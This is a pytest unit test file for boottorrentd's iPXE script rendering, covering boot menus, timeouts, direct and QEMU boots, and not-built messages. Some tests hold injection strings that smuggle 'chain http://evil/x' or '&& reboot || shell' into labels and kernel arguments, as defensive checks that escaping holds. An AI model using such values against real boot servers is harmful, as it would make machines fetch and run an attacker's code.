"""The iPXE scripts: the chain script, and the script that carries out a boot plan."""

import re

import pytest

from boottorrentd.boot.ipxe import render_chain
from boottorrentd.boot.plan import plan_boot
from boottorrentd.boot.render import NOT_BUILT_PAUSE, ipxe_text
from tests.unit.bootplans import MAC, OSS, SERVER, cfg, commands, plan, script


def test_the_chain_script_fetches_the_machines_own_script_by_mac():
    text = render_chain(SERVER)

    assert text.startswith("#!ipxe\n")
    assert commands(text) == [f"chain http://{SERVER}/boot/${{net0/mac}}.ipxe"]


def test_a_menu_lists_the_items_and_times_out_in_milliseconds():
    text = script(plan(timeout=30, default_os="freedos"))
    lines = commands(text)

    assert text.startswith("#!ipxe\n")
    assert "item debian12 Debian 12" in lines
    assert "item freedos FreeDOS" in lines
    assert "item memtest Memtest86+" in lines
    choose = next(line for line in lines if line.startswith("choose "))
    assert "--timeout 30000" in choose
    assert "--default freedos" in choose
    assert "target && goto ${target}" in choose
    # Every item has its label to go to.
    for name in OSS:
        assert f":{name}" in lines


def test_a_menu_that_waits_forever_has_no_timeout():
    lines = commands(script(plan(timeout=-1, default_os="freedos")))
    choose = next(line for line in lines if line.startswith("choose "))

    assert "--timeout" not in choose
    assert "--default freedos" in choose


def test_a_menu_without_default_has_no_default_option():
    lines = commands(script(plan(timeout=-1)))
    choose = next(line for line in lines if line.startswith("choose "))

    assert "--default" not in choose


def test_a_direct_boot_loads_phase1_with_the_os_on_the_kernel_command_line():
    lines = commands(script(plan(assignments={MAC: "freedos"}), cmdline_extra="console=ttyS0"))

    assert not any(line.startswith(("menu", "item", "choose")) for line in lines)
    kernel = next(line for line in lines if line.startswith("kernel "))
    assert kernel.startswith(f"kernel http://{SERVER}/phase1/vmlinuz initrd=initrd.img "
                             f"boottorrent.server={SERVER} boottorrent.os=freedos "
                             "boottorrent.mac=${net0/mac} console=ttyS0")
    assert any(line.startswith(f"initrd http://{SERVER}/phase1/initrd.img") for line in lines)
    assert any(line.startswith("boot") for line in lines)
    # Loading comes before anything that would drop to a shell or exit.
    assert lines.index(kernel) < min(i for i, line in enumerate(lines) if line == "exit")


def test_extra_cmdline_cannot_inject_commands():
    text = script(plan(timeout=0, default_os="debian12"),
                  cmdline_extra="quiet\nchain http://evil/x\r")

    assert not any(line.startswith("chain") for line in text.splitlines())
    assert "boottorrent.mac=${net0/mac} quiet chain http://evil/x ||" in text


def test_without_the_phase1_image_the_script_says_how_to_build_it_and_exits():
    lines = commands(script(plan(timeout=30, default_os="freedos"), phase1_ready=False))

    assert any("not built" in line for line in lines)
    assert any("boottorrentctl build-client" in line for line in lines)
    assert any(line.startswith("sleep ") for line in lines)
    assert lines[-1] == "exit"
    assert not any(line.startswith(("kernel", "menu", "choose")) for line in lines)


def test_nothing_to_boot_prints_why_and_drops_to_the_shell_after_a_pause():
    lines = commands(script(plan(oss={}, timeout=10)))

    assert lines[0].startswith("echo ") and "library is empty" in lines[0]
    assert lines[-1] == "shell"
    assert lines[-2].startswith("sleep ")
    assert not any(line.startswith("kernel") for line in lines)


@pytest.mark.parametrize("label", [
    "Evil\nchain http://evil/x",
    "Debian ${net0/mac} ${unknown}",
    "A #comment && reboot || shell ; reboot",
    'Quote "this" \'and\' back\\slash',
    "Tab\there\r\x1b[31mred",
])
def test_labels_cannot_break_the_script(label):
    p = plan(oss={"debian12": label, "freedos": "FreeDOS"}, timeout=10, default_os="freedos")
    lines = script(p).splitlines()

    item = next(line for line in lines if line.startswith("item debian12 "))
    text = item.removeprefix("item debian12 ")
    assert re.fullmatch(r"[A-Za-z0-9 _.,:!?()\[\]+=@%*~<>/^-]+", text)
    assert "${" not in text and "&&" not in text and "||" not in text
    assert not any(line.startswith("chain") for line in lines)


def test_labels_keep_their_readable_text():
    assert ipxe_text("Debian 12 (Bookworm) ${x}") == "Debian 12 (Bookworm) x"
    assert ipxe_text("Fedora \u00e9t\u00e9 / Caf\u00e9") == "Fedora ete / Cafe"
    assert ipxe_text("${}") == ""


def test_a_label_with_nothing_left_shows_the_os_name():
    p = plan(oss={"debian12": "${}", "freedos": "FreeDOS"}, timeout=10)

    assert "item debian12 debian12" in script(p).splitlines()


def test_the_reason_in_the_script_cannot_inject_commands():
    # display_oss names only need to be free of '/' and control characters.
    p = plan(timeout=10, display_oss=("x${y}", "&&", "#z"))
    lines = commands(script(p))

    assert p.kind == "none"
    assert all(line.startswith(("echo ", "sleep ", "shell")) for line in lines)
    assert not any("${" in line or "&&" in line or ";" in line for line in lines)


def test_an_os_run_in_qemu_gets_the_qemu_initramfs_after_phase1s_and_others_do_not():
    menu = plan(timeout=30, default_os="debian12")

    lines = script(menu, qemu_oss=["freedos"]).splitlines()

    freedos = lines[lines.index(":freedos"):lines.index(":memtest")]
    qemu = f"initrd http://{SERVER}/phase1/qemu.img || goto _bt_failed"
    assert freedos.index(qemu) == freedos.index(
        f"initrd http://{SERVER}/phase1/initrd.img || goto _bt_failed") + 1
    assert lines.count(qemu) == 1


def test_without_the_qemu_flavour_ipxe_says_so_for_qemu_oses_and_boots_the_others():
    lines = script(plan(timeout=30, default_os="debian12"), qemu_oss=["freedos"],
                   qemu_ready=False).splitlines()

    freedos = lines[lines.index(":freedos"):lines.index(":memtest")]
    assert not any(line.startswith(("kernel", "initrd")) for line in freedos)
    said = " ".join(freedos)
    # The words GRUB's config and the boot HTTP server's reason for qemu.img use.
    assert "runs in QEMU, and the QEMU flavour of phase-1 is not built, the server" in said
    assert "build it now with: boottorrentctl build-client" in said
    assert freedos[-2:] == [f"sleep {NOT_BUILT_PAUSE}", "exit"]
    assert f"initrd http://{SERVER}/phase1/initrd.img || goto _bt_failed" in lines
    assert not any("qemu.img" in line for line in lines)


def test_an_imaged_machine_boots_from_its_disk_even_before_phase1_is_built():
    p = plan_boot(MAC, OSS, {}, cfg(), {MAC: "freedos"})

    assert "sanboot --no-describe --drive 0x80 ||" in script(p, phase1_ready=False)
